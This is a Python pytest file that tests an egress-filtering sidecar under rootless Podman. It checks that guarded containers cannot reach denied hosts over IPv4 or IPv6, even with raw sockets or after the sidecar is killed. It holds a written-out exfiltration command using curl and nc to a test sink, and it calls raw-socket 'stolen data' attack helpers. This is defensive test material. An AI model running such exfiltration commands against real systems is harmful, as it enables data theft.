"""Podman of an ordinary user: the ways that the page on containers has, and what it says that cannot be had there."""

from __future__ import annotations

import contextlib
import json
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import plan
from lab.daemon import running
from lab.engine import IMAGE, MACHINE, SANDGATE
from lab.guarded import (
    DIRECTLY,
    NOWHERE,
    NOWHERE6,
    SEND,
    WITH_ATTACKS,
    attack_with_raw_sockets,
    pinned,
    reaches,
    show_leak,
)
from lab.internet import Internet
from lab.page_commands import TRY, Shell, block, holds
from lab.processes import check, wait_until
from lab.rootless_podman import HARDWARE, RootlessPodman, missing, rootless_podman
from lab.sandgate import allowing

READ_ONLY = ("--read-only", "--tmpfs", "/var/log/sandgate")
SIDECAR = ("--cap-drop", "ALL", "--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW", *READ_ONLY)
SEND6 = f"curl -s -m 1 tftp://[{plan.SINK6}]:4444/leaked; echo leaked | nc -w 1 {plan.SINK6} 4444"
VERSIONS = {"slirp4netns": ("-4", "-6"), "bridged": ("-4",)}
"""What leads outside: a Podman that is not root forwards no IPv6 from networks that it makes."""


@pytest.fixture(scope="module")
def engine(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RootlessPodman]:
    if absent := missing():
        pytest.skip(f"not installed: {', '.join(absent)}")
    with rootless_podman(net, tmp_path_factory.mktemp("podman"), plan.DNS4) as made:
        yield made


@pytest.fixture(scope="module")
def bridge(engine: RootlessPodman) -> str:
    """A network that Podman keeps in a network namespace of the user's."""
    engine.docker("network", "create", "--subnet", "10.81.0.0/24", "bridged")
    return "bridged"


class Sidecar:
    """A sidecar, and what runs in its network."""

    def __init__(self, engine: RootlessPodman, policy: object, *options: str, joined: str | None = None) -> None:
        self._engine = engine
        rules = f"OPENSANDBOX_EGRESS_RULES={json.dumps(policy)}"
        self.id = engine.docker("run", "--detach", *SIDECAR, "--env", rules, *options, SANDGATE)
        self._joined = joined or f"container:{self.id}"
        self._others: list[str] = []
        wait_until(lambda: self.is_well or not self.runs, "the sidecar", 30)
        assert self.runs, self.log

    @property
    def runs(self) -> bool:
        return self._engine.inspect(self.id, "{{.State.Running}}") == "true"

    @property
    def is_well(self) -> bool:
        """As the page says that it is asked."""
        return self._engine.run(self.id, "/usr/bin/sandgate", "sidecar", "--check").returncode == 0

    @property
    def log(self) -> str:
        return self._engine.logs(self.id)

    def workload(self, *options: str, image: str = IMAGE) -> str:
        container = self._engine.start("--network", self._joined, *options, image=image)
        self._others.append(container)
        return container

    def remove(self) -> None:
        self._engine.remove(*self._others, self.id)


@pytest.fixture(params=VERSIONS)
def sidecar(internet: Internet, engine: RootlessPodman, bridge: str, request: pytest.FixtureRequest) -> Iterator[Sidecar]:
    made = Sidecar(engine, allowing(plan.ALLOWED), "--network", request.param)
    try:
        yield made
    finally:
        made.remove()


def test_it_is_rootless(engine: RootlessPodman) -> None:
    assert engine.docker("info", "--format", "{{.Host.Security.Rootless}}") == "true"


def refuses(engine: RootlessPodman, container: str, internet: Internet) -> None:
    """What no way gets out of a container that is guarded."""
    for version, address in (("-4", plan.DENIED4), ("-6", f"[{plan.DENIED6}]")):
        assert not reaches(engine, container, plan.DENIED, version)
        assert not reaches(engine, container, plan.DENIED, version, *pinned(plan.DENIED, address))
        assert not reaches(engine, container, plan.OTHER, version)
    engine.run(container, "/bin/sh", "-c", f"{SEND}; {SEND6}")
    assert internet.sinks.data() == ""


@pytest.mark.attack(
    "N1 N3 N4",
    "sends to names and addresses, over IPv6 too, from a container of a rootless Podman that joins a sidecar's network",
    stopped_by="kernel, dns",
)
def test_sidecar(internet: Internet, engine: RootlessPodman, sidecar: Sidecar, request: pytest.FixtureRequest) -> None:
    network = request.node.callspec.params["sidecar"]
    free = engine.start("--network", network)
    for version in VERSIONS[network]:
        wait_until(lambda: reaches(engine, free, plan.DENIED, version), f"{version} without a sidecar")
    engine.run(free, "/bin/sh", "-c", f"{SEND}; {SEND6}")
    assert {a.service for a in internet.sinks.arrivals() if "leaked" in a.data} == {"tcp-sink", "udp-sink"}
    engine.remove(free)
    internet.forget()
    workload = sidecar.workload("--cap-drop", "ALL")
    for version in VERSIONS[network]:
        assert reaches(engine, workload, plan.ALLOWED, version), sidecar.log
    fetch = ("/usr/bin/curl", "-sS", "-k", "-m", "5", f"https://{plan.ALLOWED}/")
    assert f"served {plan.ALLOWED}" in engine.run(workload, *fetch).stdout
    refuses(engine, workload, internet)
    assert internet.web.hosts() == {plan.ALLOWED}
    assert '"event":"dns.denied"' in sidecar.log and f'"host":"{plan.DENIED}"' in sidecar.log


@pytest.mark.attack(
    "T1 T10",
    "sends frames behind the hooks and sets every mark, over IPv4 and IPv6, in a rootless container that has CAP_NET_RAW",
    stopped_by="fence, kernel",
)
def test_attacks_with_raw_sockets(
    internet: Internet, engine: RootlessPodman, sidecar: Sidecar, request: pytest.FixtureRequest
) -> None:
    network = request.node.callspec.params["sidecar"]
    raw = (*WITH_ATTACKS, "--cap-add", "NET_RAW")

    def attack(container: str) -> None:
        for version in VERSIONS[network]:
            forwarder = _forwarder(engine, container, version)
            attack_with_raw_sockets(engine, container, forwarder, is_ipv6=version == "-6")

    free = engine.start("--network", network, *raw, image=MACHINE)
    for version in VERSIONS[network]:
        wait_until(lambda: reaches(engine, free, plan.DENIED, version), version)
    attack(free)
    arrived = [(a.data, "-6" if ":" in a.peer else "-4") for a in internet.sinks.arrivals()]
    for words in ("stolen by a frame", "stolen by a mark"):
        assert {version for data, version in arrived if words in data} == set(VERSIONS[network]), "without a sidecar"
    engine.remove(free)
    internet.forget()
    workload = sidecar.workload(*raw, image=MACHINE)
    attack(workload)
    assert internet.sinks.data() == ""
    assert all(reaches(engine, workload, plan.ALLOWED, version) for version in VERSIONS[network])


def _forwarder(engine: RootlessPodman, container: str, version: str) -> str:
    """The hardware address of who forwards a container's frames."""
    engine.run(container, "/usr/bin/curl", "-sS", "-m", "2", version, f"http://{plan.ALLOWED}/")
    known = engine.run(container, "/bin/ip", version, "neighbour", "show", "router").stdout
    known = known or engine.run(container, "/bin/ip", version, "neighbour", "show").stdout
    addresses = [line.split("lladdr ")[1].split()[0] for line in known.splitlines() if "lladdr " in line]
    return addresses[0] if addresses else HARDWARE


@pytest.mark.attack("T8", "floods from a rootless container while its sidecar is killed", stopped_by="kernel")
def test_nothing_passes_when_the_sidecar_ends(internet: Internet, engine: RootlessPodman, sidecar: Sidecar) -> None:
    show_leak(internet, engine, "/bin/sh", "-c", f"{SEND}; sleep 600")
    workload = sidecar.workload("--cap-drop", "ALL")
    assert reaches(engine, workload, plan.ALLOWED)
    internet.forget()
    engine.docker("exec", "--detach", workload, "/bin/sh", "-c", f"while true; do {SEND}; done")
    engine.docker("kill", "--signal", "KILL", sidecar.id)
    wait_until(lambda: not sidecar.runs, "its end", 20)
    assert not reaches(engine, workload, plan.ALLOWED, *DIRECTLY) and not reaches(engine, workload, plan.ALLOWED)
    assert internet.sinks.data() == "" and internet.web.requests() == []


@pytest.mark.attack("N1 T4 T8", "floods in a pod of a rootless Podman, while its sidecar ends and begins anew", stopped_by="kernel")
def test_pod(internet: Internet, engine: RootlessPodman) -> None:
    """The pod holds the network: a sidecar that is started again finds it, and its rules, as it left them."""
    show_leak(internet, engine, "/bin/sh", "-c", f"{SEND}; sleep 600")
    engine.docker("pod", "create", "--name", "box")
    sidecar = Sidecar(engine, allowing(plan.ALLOWED), "--pod", "box")
    try:
        flood = ("/bin/sh", "-c", f"while true; do {SEND}; done")
        workload = engine.docker("run", "--detach", "--pod", "box", "--cap-drop", "ALL", IMAGE, *flood)
        assert reaches(engine, workload, plan.ALLOWED) and not reaches(engine, workload, plan.DENIED), sidecar.log
        engine.docker("restart", "--time", "5", sidecar.id)
        wait_until(lambda: sidecar.is_well, "the sidecar", 30)
        assert reaches(engine, workload, plan.ALLOWED) and not reaches(engine, workload, plan.DENIED), sidecar.log
        assert internet.sinks.data() == "" and internet.web.hosts() == {plan.ALLOWED}
    finally:
        engine.docker("pod", "rm", "--force", "--time", "0", "box")


class AdvertisedPod:
    """A pod whose IPv6 ends soon: that slirp4netns said so is not awaited."""

    SECONDS = 15

    def __init__(self, engine: RootlessPodman, name: str) -> None:
        self._engine, self.name = engine, name
        engine.docker("pod", "create", "--name", name, "--network", "slirp4netns:enable_ipv6=true")
        engine.docker("pod", "start", name)
        infra = engine.docker("pod", "inspect", "--format", "{{.InfraContainerID}}", name)
        self._process = engine.inspect(infra, "{{.State.Pid}}")
        wait_until(lambda: "default via" in self.ip("route", "show"), "a router's advertisement")
        (address,) = [word for word in self.ip("-oneline", "address", "show", "scope", "global").split() if "/" in word]
        life = str(self.SECONDS)
        self.ip("address", "change", address, "dev", "tap0", "valid_lft", life, "preferred_lft", life)
        self.ip("route", "replace", "default", "via", "fe80::2", "dev", "tap0", "metric", "1024", "expires", life)

    def ip(self, *words: str) -> str:
        return check("nsenter", f"--net=/proc/{self._process}/ns/net", "ip", "-6", *words)

    def remove(self) -> None:
        self._engine.docker("pod", "rm", "--force", "--time", "0", self.name)


def test_ipv6_outlives_advertisements(internet: Internet, engine: RootlessPodman) -> None:
    """The rules keep out what would renew addresses and routes: they stay as they were when the sidecar began."""
    with contextlib.ExitStack() as stack:
        box, free = (AdvertisedPod(engine, name) for name in ("box", "free"))
        for pod in (box, free):
            stack.callback(pod.remove)
        sidecar = Sidecar(engine, allowing(plan.ALLOWED), "--pod", box.name)
        workload = engine.docker("run", "--detach", "--pod", box.name, "--cap-drop", "ALL", IMAGE, "/bin/sleep", "600")
        unguarded = engine.docker("run", "--detach", "--pod", free.name, "--cap-drop", "ALL", IMAGE, "/bin/sleep", "600")
        assert reaches(engine, unguarded, plan.DENIED, "-6")
        wait_until(lambda: not reaches(engine, unguarded, plan.DENIED, "-6"), "its end", 2 * AdvertisedPod.SECONDS)
        internet.forget()
        assert reaches(engine, workload, plan.ALLOWED, "-6"), (sidecar.log, box.ip("address"), box.ip("route"))
        refuses(engine, workload, internet)
        assert internet.web.hosts() == {plan.ALLOWED}


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ((), "missing CAP_NET_ADMIN, CAP_NET_RAW"),
        (("--cap-add", "NET_ADMIN"), "missing CAP_NET_RAW"),
        (("--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW", "--network", "host"), "this is a machine's network"),
    ],
    ids=["nothing", "no raw sockets", "the machine's network"],
)
def test_image_refuses_to_start(engine: RootlessPodman, options: tuple[str, ...], words: str) -> None:
    container = engine.docker("run", "--detach", *options, SANDGATE)
    try:
        assert engine.docker("wait", container) != "0" and words in engine.logs(container), engine.logs(container)
    finally:
        engine.remove(container)


def test_page(internet: Internet, engine: RootlessPodman, tmp_path: Path) -> None:
    """Its commands, as they stand."""
    (tmp_path / "policy.json").write_text(json.dumps(allowing(plan.ALLOWED)))
    shell = Shell(tmp_path, podman=shlex.join((*engine.on_the_machine, "/usr/bin/podman")))
    text = block("Containers.md", "deploy/build-image --podman\npodman pod")
    # The image is there: it is the user who makes it so, and this shell is root's.
    text = text.removeprefix("deploy/build-image --podman\n")
    try:
        output = shell.run(text, {"IMAGE COMMAND": f"{IMAGE} {TRY}"})
        assert holds(internet, output), output
    finally:
        engine.docker("pod", "rm", "--force", "--time", "0", "box")


# The node daemon, which is root's, and containers of a user


def test_network_of_the_daemon_is_not_the_users_to_join(
    internet: Internet, engine: RootlessPodman, tmp_path: Path
) -> None:
    with running(internet, tmp_path) as daemon:
        box = daemon.create(allowing(plan.ALLOWED), id="box")
        command = engine.on_the_machine + ("podman", "run", "--rm", "--network", f"ns:{box.namespace}", IMAGE, "/bin/true")
        with pytest.raises(RuntimeError, match="(?i)operation not permitted|permission denied"):
            check(*command)


@pytest.mark.attack(
    "T4 N1", "sends as its first act in a network of a rootless Podman that the daemon guards", stopped_by="kernel"
)
@pytest.mark.parametrize("network", ["none", "slirp4netns:enable_ipv6=true"])
def test_container_that_the_daemon_guards(
    internet: Internet, engine: RootlessPodman, tmp_path: Path, network: str
) -> None:
    """Known by its process: the user's Podman need not serve its API for that."""
    show_leak(internet, engine, "/bin/sh", "-c", f"{SEND}; sleep 600")
    holder = engine.start("--network", network, "--cap-drop", "ALL", "--name", "box-net")
    process = engine.inspect(holder, "{{.State.Pid}}")
    if network == "none":
        check("nsenter", f"--net=/proc/{process}/ns/net", "/bin/sh", "-c", f"{NOWHERE} && {NOWHERE6}")
    try:
        with running(internet, tmp_path) as daemon:
            attachment = {"pid": int(process), "inbound": "none"}
            box = daemon.create(allowing(plan.ALLOWED), id="box", attachment=attachment)
            joined = ("--cap-drop", "ALL", "--network", "container:box-net")
            engine.docker("run", *joined, "--name", "workload", IMAGE, *shlex.split(TRY))
            output = engine.logs("workload")
            assert holds(internet, output), output
            internet.forget()
            other = engine.start(*joined)
            assert all(reaches(engine, other, plan.ALLOWED, version) for version in ("-4", "-6"))
            refuses(engine, other, internet)
            assert internet.web.hosts() == {plan.ALLOWED}
            assert box.ask("DELETE").status == 204
            engine.remove("workload", other)
    finally:
        engine.remove(holder)
